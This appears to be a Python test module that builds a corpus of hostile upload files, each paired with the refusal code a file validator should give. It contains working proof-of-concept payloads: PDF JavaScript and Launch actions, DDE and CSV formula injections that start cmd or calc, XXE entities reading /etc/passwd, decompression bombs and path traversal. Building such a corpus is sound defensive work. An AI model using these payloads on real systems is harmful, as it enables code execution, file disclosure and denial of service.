"""Files that mean harm, each with the code of its refusal; every one is made here, none is kept in the tree.

`python -m spoiwo.doors.tests.hostile FOLDER` writes them out, to be tried by hand.
"""

import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from spoiwo.doors.tests.samples import (
    FORM,
    S,
    docx,
    docx_parts,
    jpeg,
    letter,
    packed,
    pdf,
    png,
    sheet,
    ties,
    types,
    xlsx,
    xlsx_parts,
)

MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: its name for people, the name it comes under, how it is made, and the code of the refusal."""

    what: str
    name: str
    make: Callable[[], bytes]
    code: str

    def __str__(self) -> str:
        return self.what


# --- PDF -------------------------------------------------------------------------------------------


def acting(**root) -> Callable[[], bytes]:
    """A PDF whose catalogue holds something more."""

    def change(document: pikepdf.Pdf) -> None:
        for key, value in root.items():
            document.Root[f"/{key}"] = value

    return lambda: pdf(change)


def annotated(**facts) -> Callable[[], bytes]:
    """A PDF with a note on its first page."""

    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 10, 10], **facts)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return lambda: pdf(change)


def script(**facts) -> Dictionary:
    """An action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"), **facts)


def encrypted(user: str) -> Callable[[], bytes]:
    """A PDF under a password."""
    return lambda: pdf(encryption=pikepdf.Encryption(owner="tajne", user=user, R=6))


def attached(document: pikepdf.Pdf) -> None:
    """A file carried inside."""
    document.attachments["program.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="program.exe")


def inside_object_streams() -> bytes:
    """A script in a compressed list of objects, where no search for bytes finds it."""
    return pdf(
        lambda document: document.Root.__setitem__("/OpenAction", document.make_indirect(script())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True,
    )  # fmt: skip


@cache
def zeros(start: bytes = b"") -> bytes:
    """210 MB of blanks, under a megabyte packed."""
    packer = zlib.compressobj(1)
    return packer.compress(start) + b"".join(packer.compress(b" " * MB) for _block in range(210)) + packer.flush()


def object_bomb() -> bytes:
    """A PDF whose catalogue lies in a list of objects that unpacks to 210 MB."""
    body = zeros(b"1 0 <</Type/Catalog/Pages 2 0 R>>")
    parts = [
        b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n",
        b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj\n",
        b"4 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n" % len(body)
        + body + b"\nendstream endobj\n",
    ]  # fmt: skip
    out, places = b"%PDF-1.7\n", []
    for part in parts:
        places.append(len(out))
        out += part
    table = [(0, 0, 0), (2, 4, 0), *((1, place, 0) for place in places), (1, len(out), 0)]
    rows = b"".join(struct.pack(">BLB", *row) for row in table)
    head = b"5 0 obj <</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>> stream\n" % len(rows)
    return out + head + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def page_of(body: bytes, packing: object) -> bytes:
    """A PDF with this content of its only page."""

    def change(document: pikepdf.Pdf) -> None:
        content = document.make_stream(b"")
        content.write(body, filter=packing)
        document.pages[0].Contents = content

    return pdf(change)


def page_bomb() -> bytes:
    """A page that unpacks to 210 MB."""
    return page_of(zeros(), Name.FlateDecode)


def packed_twice() -> bytes:
    """A page that unpacks to 210 MB only at the second try."""
    return page_of(zlib.compress(zeros(), 9), Array([Name.FlateDecode, Name.FlateDecode]))


def signed_and_acting(document: pikepdf.Pdf) -> None:
    """A signature beside a script: the signature saves nothing."""
    document.Root["/AcroForm"] = Dictionary(Fields=Array([]), SigFlags=3)
    document.Root["/Sign"] = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
    document.Root["/OpenAction"] = script()


LINK = Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))
PDFS = [
    Hostile("pdf-script-on-opening", "a.pdf", acting(OpenAction=script()), "javascript"),
    Hostile("pdf-script-by-name", "a.pdf", acting(Names=Dictionary(JavaScript=Dictionary(Names=[]))), "javascript"),
    Hostile("pdf-script-of-a-page", "a.pdf", annotated(Subtype=Name.Link, A=script()), "javascript"),
    Hostile("pdf-script-of-a-field", "a.pdf", annotated(Subtype=Name.Square, AA=Dictionary(K=script())), "javascript"),
    Hostile("pdf-script-after-another", "a.pdf", acting(
        OpenAction=Dictionary(S=Name.GoTo, D=Array([]), Next=script())), "javascript"),
    Hostile("pdf-script-in-packed-objects", "a.pdf", inside_object_streams, "javascript"),
    Hostile("pdf-script-in-a-stream", "a.pdf", acting(
        OpenAction=Dictionary(S=Name.Rendition, JS=String("x"))), "javascript"),
    Hostile("pdf-launch", "a.pdf", acting(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))), "launch"),
    Hostile("pdf-launch-by-click", "a.pdf", annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe"))), "launch"),
    Hostile("pdf-attached-file", "a.pdf", lambda: pdf(attached), "embedded"),
    Hostile("pdf-file-on-a-page", "a.pdf", annotated(Subtype=Name.FileAttachment), "embedded"),
    Hostile("pdf-portfolio", "a.pdf", acting(Collection=Dictionary(Type=Name.Collection)), "embedded"),
    Hostile("pdf-xfa", "a.pdf", acting(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))), "xfa"),
    Hostile("pdf-film", "a.pdf", annotated(Subtype=Name.RichMedia), "media"),
    Hostile("pdf-sound", "a.pdf", annotated(Subtype=Name.Sound), "media"),
    Hostile("pdf-sends-form", "a.pdf", acting(OpenAction=Dictionary(
        S=Name.SubmitForm, F=String("https://x.example"))), "submit"),
    Hostile("pdf-other-file", "a.pdf", acting(OpenAction=Dictionary(S=Name.GoToR, F=String("//x/y.pdf"))), "external"),
    Hostile("pdf-link-to-disk", "a.pdf", annotated(Subtype=Name.Link, A=LINK), "link"),
    Hostile("pdf-password", "a.pdf", encrypted("haslo"), "encrypted"),
    Hostile("pdf-owner-password", "a.pdf", encrypted(""), "encrypted"),
    Hostile("pdf-signed-with-script", "a.pdf", lambda: pdf(signed_and_acting), "javascript"),
    Hostile("pdf-and-zip", "a.pdf", lambda: pdf() + packed({"a.exe": b"MZ"}), "polyglot"),
    Hostile("pdf-and-page", "a.pdf", lambda: pdf() + b"<script>alert(1)</script>", "polyglot"),
    Hostile("pdf-behind-something", "a.pdf", lambda: b"GIF89a" + pdf(), "another_kind"),
    Hostile("pdf-cut", "a.pdf", lambda: pdf()[:200], "another_kind"),
    Hostile("pdf-of-nothing", "a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n%%EOF\n", "broken_pdf"),
    Hostile("pdf-without-pages", "a.pdf", lambda: pdf(pages=0), "broken_pdf"),
    Hostile("pdf-nested", "a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n" + b"[" * 3 * MB + b"\n%%EOF", "broken_pdf"),
    Hostile("pdf-bomb-of-objects", "a.pdf", object_bomb, "packed_too_hard"),
    Hostile("pdf-packed-twice", "a.pdf", packed_twice, "packed_too_hard"),
    Hostile("pdf-bomb-of-a-page", "a.pdf", page_bomb, "packed_too_hard"),
]  # fmt: skip

# --- pictures --------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG that says it is so large."""
    header = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = [chunk(b"IHDR", header), chunk(b"IDAT", zlib.compress(body)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def text_bomb() -> bytes:
    """A PNG with a text of 80 MB."""
    whole = png()
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80 * MB), 1))
    return whole[:33] + text + whole[33:]


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that says it is so large."""
    whole = jpeg()
    at = whole.index(b"\xff\xc0")
    return whole[: at + 5] + struct.pack(">HH", height, width) + whole[at + 9 :]


PICTURES = [
    Hostile("png-of-ten-thousand-megapixels", "a.png", lambda: png_of(100_000, 100_000), "too_many_pixels"),
    Hostile("png-a-long-line", "a.png", lambda: png_of(30_000, 1), "too_many_pixels"),
    Hostile("png-text-bomb", "a.png", text_bomb, "broken_picture"),
    Hostile("png-and-page", "a.png", lambda: png() + b"<html><script>x</script>", "polyglot"),
    Hostile("png-and-zip", "a.png", lambda: png() + packed({"a.jar": b"x"}), "polyglot"),
    Hostile("png-cut", "a.png", lambda: png()[:-20] + b"IEND", "broken_picture"),
    Hostile("png-without-picture", "a.png", lambda: png_of(10, 10), "broken_picture"),
    Hostile("png-wrong-sum", "a.png", lambda: png()[:30] + b"\0\0\0" + png()[33:], "broken_picture"),
    Hostile("png-that-is-a-page", "a.png", lambda: b"<html>IEND", "another_kind"),
    Hostile("jpeg-of-four-thousand-megapixels", "a.jpg", lambda: jpeg_of(65_000, 65_000), "too_many_pixels"),
    Hostile("jpeg-and-page", "a.jpg", lambda: jpeg() + b"<html><script>x</script>", "polyglot"),
    Hostile("jpeg-and-archive", "a.jpg", lambda: jpeg() + packed({"a.class": b"x"}), "polyglot"),
    Hostile("jpeg-second-photo-and-archive", "a.jpg", lambda: jpeg() + jpeg() + packed({"a": b"x"}), "polyglot"),
    Hostile("jpeg-and-php", "a.jpg", lambda: jpeg() + b"\xff\xd8\xff<?php x();", "polyglot"),
    Hostile("jpeg-cut", "a.jpg", lambda: jpeg()[:100] + b"\xff\xd9", "broken_picture"),
    Hostile("jpeg-of-nothing", "a.jpg", lambda: b"\xff\xd8\xff\xe0....\xff\xd9", "broken_picture"),
    Hostile("gif-as-jpeg", "a.jpg", lambda: b"GIF89a" + packed({"a": b"x"}), "another_kind"),
    Hostile("svg", "a.svg", lambda: b'<svg onload="alert(1)"/>', "unknown_ending"),
    Hostile("svg-as-png", "a.png", lambda: b'<svg onload="alert(1)"/>', "another_kind"),
    Hostile("webp", "a.webp", lambda: b"RIFF\0\0\0\0WEBPVP8 ", "unknown_ending"),
]  # fmt: skip

# --- letters and workbooks -------------------------------------------------------------------------


def field(*pieces: str) -> str:
    """A field of a letter, told in pieces."""
    told = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{told}{end}</w:p>"


def with_field(body: str) -> Callable[[], bytes]:
    """A letter with this body."""
    return lambda: docx({"word/document.xml": letter(body)})


def with_part(part: str, content: bytes | str = b"x", make: Callable = docx) -> Callable[[], bytes]:
    """An office file with one part more."""
    return lambda: make({part: content})


def tied(tie: str, target: str, mode: str = "External", make: Callable = docx) -> Callable[[], bytes]:
    """An office file tied to something."""
    part = "word/_rels/settings.xml.rels" if make is docx else "xl/worksheets/_rels/sheet1.xml.rels"
    return lambda: make({part: ties((tie, target, mode))})


def with_formula(text: str) -> Callable[[], bytes]:
    """A workbook with a formula."""
    return lambda: xlsx({"xl/worksheets/sheet1.xml": sheet(f'<c r="A1"><f>{text}</f><v>1</v></c>')})


def zip_bomb() -> bytes:
    """30 MB of zeros in a part of a letter, 30 kB packed."""
    return packed(docx_parts() | {"word/media/image1.png": bytes(30 * MB)})


def inflated(kind: str, size: int) -> bytes:
    """An office file whose directory says that its parts are larger than all that is allowed."""
    whole = docx() if kind == "docx" else xlsx()
    at = whole.find(b"PK\x01\x02")
    while at >= 0:
        whole = whole[: at + 24] + struct.pack("<L", size) + whole[at + 28 :]
        at = whole.find(b"PK\x01\x02", at + 4)
    return whole


NESTED_FIELDS = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("SET x") + field(" y ")
    + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)  # fmt: skip
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">' for n in range(9))
    + "]><a>&a8;</a>"
)
OUTSIDE_ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
MACRO_LETTER = types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
TEMPLATE = types("/word/document.xml", f"{FORM}wordprocessingml.template.main+xml")
OTHER_MAIN = types("/word/document.xml", "text/html")
LINKED = f'<?xml version="1.0"?><externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
OFFICES = [
    Hostile("docx-macros", "a.docx", with_part("word/vbaProject.bin"), "macros"),
    Hostile("docx-macros-under-another-name", "a.docx", lambda: docx({"[Content_Types].xml": types(
        "/word/document.xml", f"{FORM}wordprocessingml.document.main+xml",
        ("/word/x.xml", "application/vnd.ms-office.vbaProject"))}), "macros"),
    Hostile("docx-that-is-a-docm", "a.docx", lambda: docx({"[Content_Types].xml": MACRO_LETTER}), "macros"),
    Hostile("docx-that-is-a-template", "a.docx", lambda: docx({"[Content_Types].xml": TEMPLATE}), "macros"),
    Hostile("docx-of-another-main-part", "a.docx", lambda: docx({"[Content_Types].xml": OTHER_MAIN}), "another_kind"),
    Hostile("docx-ole-object", "a.docx", with_part("word/embeddings/oleObject1.bin"), "ole"),
    Hostile("docx-workbook-inside", "a.docx", with_part("word/embeddings/arkusz.xlsx"), "ole"),
    Hostile("docx-activex", "a.docx", with_part("word/activeX/activeX1.xml", "<a/>"), "activex"),
    Hostile("docx-ribbon", "a.docx", with_part("customUI/customUI.xml", "<a/>"), "macros"),
    Hostile("docx-programme", "a.docx", with_part("word/media/image1.exe", b"MZ"), "unknown_part"),
    Hostile("docx-page-inside", "a.docx", with_part("word/afchunk.mht"), "external"),
    Hostile("docx-remote-template", "a.docx", tied("attachedTemplate", "https://x.example/a.dotm"), "template"),
    Hostile("docx-remote-picture", "a.docx", tied("image", "https://x.example/a.png"), "external"),
    Hostile("docx-picture-of-a-share", "a.docx", tied("image", "\\\\x.example\\a.png"), "external"),
    Hostile("docx-remote-frame", "a.docx", tied("frame", "https://x.example/"), "external"),
    Hostile("docx-script-link", "a.docx", tied("hyperlink", "javascript:alert(1)"), "external"),
    Hostile("docx-link-to-disk", "a.docx", tied("hyperlink", "file:///c:/windows/system32/calc.exe"), "external"),
    Hostile("docx-linked-object", "a.docx", tied("oleObject", "file:///c:/a.xls"), "ole"),
    Hostile("docx-mail-merge", "a.docx", tied("mailMergeSource", "file:///c:/osoby.xlsx"), "external"),
    Hostile("docx-dde", "a.docx", with_field(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "dde"),
    Hostile("docx-dde-in-pieces", "a.docx", with_field(field(" DD", "EAU", "TO cmd")), "dde"),
    Hostile("docx-dde-in-one-piece", "a.docx", with_field('<w:fldSimple w:instr=" DDE cmd "/>'), "dde"),
    Hostile("docx-field-made-by-fields", "a.docx", with_field(NESTED_FIELDS), "dde"),
    Hostile("docx-quoted-field", "a.docx", with_field(field("QUOTE 68 68 69")), "dde"),
    Hostile("docx-fetches-a-text", "a.docx", with_field(field('INCLUDETEXT "https://x.example"')), "dde"),
    Hostile("docx-fetches-a-picture", "a.docx", with_field(field('INCLUDEPICTURE "https://x.example"')), "dde"),
    Hostile("docx-entities", "a.docx", lambda: docx({"word/document.xml": ENTITIES}), "broken_part"),
    Hostile("docx-entity-of-a-file", "a.docx", lambda: docx({"word/settings.xml": OUTSIDE_ENTITY}), "broken_part"),
    Hostile("docx-nested-without-end", "a.docx", lambda: docx(
        {"word/document.xml": letter("<w:p>" * 5000 + "</w:p>" * 5000)}), "broken_part"),
    Hostile("docx-not-xml", "a.docx", lambda: docx({"word/document.xml": "<w:p>"}), "broken_part"),
    Hostile("docx-bomb", "a.docx", zip_bomb, "packed_too_hard"),
    Hostile("docx-swollen", "a.docx", lambda: inflated("docx", 900 * MB), "unpacks_too_large"),
    Hostile("docx-of-many-parts", "a.docx", lambda: packed(
        docx_parts() | {f"word/{n}.xml": "" for n in range(2001)}), "too_many_entries"),
    Hostile("docx-way-out", "a.docx", with_part("../../etc/cron.xml", "<a/>"), "unsafe_name"),
    Hostile("docx-archive-inside", "a.docx", with_part("word/a.zip"), "nested_archive"),
    Hostile("docx-with-a-word-behind", "a.docx", lambda: packed(docx_parts(), comment=b"x" * 40), "polyglot"),
    Hostile("docx-and-page", "a.docx", lambda: docx() + b"<script>x</script>", "polyglot"),
    Hostile("docx-cut", "a.docx", lambda: docx()[:-60], "broken_archive"),
    Hostile("docx-that-is-a-workbook", "a.docx", xlsx, "another_kind"),
    Hostile("archive-as-docx", "a.docx", lambda: packed({"a.exe": b"MZ"}), "another_kind"),
    Hostile("old-letter", "a.doc", lambda: bytes.fromhex("d0cf11e0a1b11ae1"), "unknown_ending"),
    Hostile("xlsx-macros", "a.xlsx", with_part("xl/vbaProject.bin", make=xlsx), "macros"),
    Hostile("xlsx-macro-sheet", "a.xlsx", with_part("xl/macrosheets/sheet1.xml", "<a/>", xlsx), "macros"),
    Hostile("xlsx-other-workbook", "a.xlsx", with_part("xl/externalLinks/externalLink1.xml", LINKED, xlsx), "external"),
    Hostile("xlsx-dde", "a.xlsx", lambda: xlsx({"xl/links/a.xml": LINKED}), "dde"),
    Hostile("xlsx-dde-formula", "a.xlsx", with_formula("cmd|'/c calc'!A1"), "dde"),
    Hostile("xlsx-web-formula", "a.xlsx", with_formula('WEBSERVICE("https://x.example/"&amp;A2)'), "dde"),
    Hostile("xlsx-calling-formula", "a.xlsx", with_formula('CALL("kernel32","WinExec","JCJ","calc",0)'), "dde"),
    Hostile("xlsx-connections", "a.xlsx", with_part("xl/connections.xml", "<a/>", xlsx), "external"),
    Hostile("xlsx-script-link", "a.xlsx", tied("hyperlink", "vbscript:x", make=xlsx), "external"),
    Hostile("xlsx-add-in", "a.xlsx", with_part("xl/webextensions/webextension1.xml", "<a/>", xlsx), "external"),
    Hostile("xlsx-swollen", "a.xlsx", lambda: inflated("xlsx", 900 * MB), "unpacks_too_large"),
    Hostile("xlsx-entities", "a.xlsx", lambda: xlsx({"xl/sharedStrings.xml": ENTITIES}), "broken_part"),
    Hostile("xlsx-behind-something", "a.xlsx", lambda: packed(
        {"[Content_Types].xml": "x"}) + packed(xlsx_parts()), "polyglot"),
]  # fmt: skip

# --- texts -----------------------------------------------------------------------------------------

TEXTS = [
    Hostile("csv-that-starts-a-programme", "a.csv", lambda: b"a;b\n=cmd|'/c calc'!A1;2\n", "dde"),
    Hostile("csv-that-starts-behind-a-comma", "a.csv", lambda: b'a,"+cmd|\'/c calc\'!A1"\n', "dde"),
    Hostile("txt-with-a-page", "a.txt", lambda: b"Dzie\xf1 dobry <script>alert(1)</script>", "markup"),
    Hostile("txt-that-is-a-page", "a.txt", lambda: b" \n<!doctype html><p>x", "markup"),
    Hostile("csv-that-is-a-drawing", "a.csv", lambda: b"\xef\xbb\xbf<svg onload=x>", "markup"),
    Hostile("txt-php", "a.txt", lambda: b"x <?php system('id');", "markup"),
    Hostile("txt-script-of-a-shell", "a.txt", lambda: b"#!/bin/sh\n", "another_kind"),
    Hostile("txt-bytes", "a.txt", lambda: b"a\x00b", "control"),
    Hostile("csv-escape", "a.csv", lambda: b"a\x1b[2Jb", "control"),
    Hostile("csv-utf16", "a.csv", lambda: "a;b".encode("utf-16"), "utf16"),
    Hostile("txt-and-pdf", "a.txt", lambda: b"x\n%PDF-1.7\n", "polyglot"),
    Hostile("pdf-as-txt", "a.txt", pdf, "another_kind"),
    Hostile("programme-as-txt", "a.txt", lambda: b"MZ\x90", "another_kind"),
    Hostile("programme", "a.exe", lambda: b"MZ\x90\0", "unknown_ending"),
    Hostile("page", "a.html", lambda: b"<html>", "unknown_ending"),
    Hostile("two-endings", "umowa.pdf.html", pdf, "unknown_ending"),
    Hostile("no-ending", "umowa", pdf, "unknown_ending"),
    Hostile("empty", "a.pdf", lambda: b"", "empty"),
    Hostile("too-large", "a.txt", lambda: b" " * (20 * MB + 1), "too_large"),
]  # fmt: skip

HOSTILE = [*PDFS, *PICTURES, *OFFICES, *TEXTS]


if __name__ == "__main__":
    for one in HOSTILE:
        (Path(sys.argv[1]) / f"{one.what}--{one.name}").write_bytes(one.make())
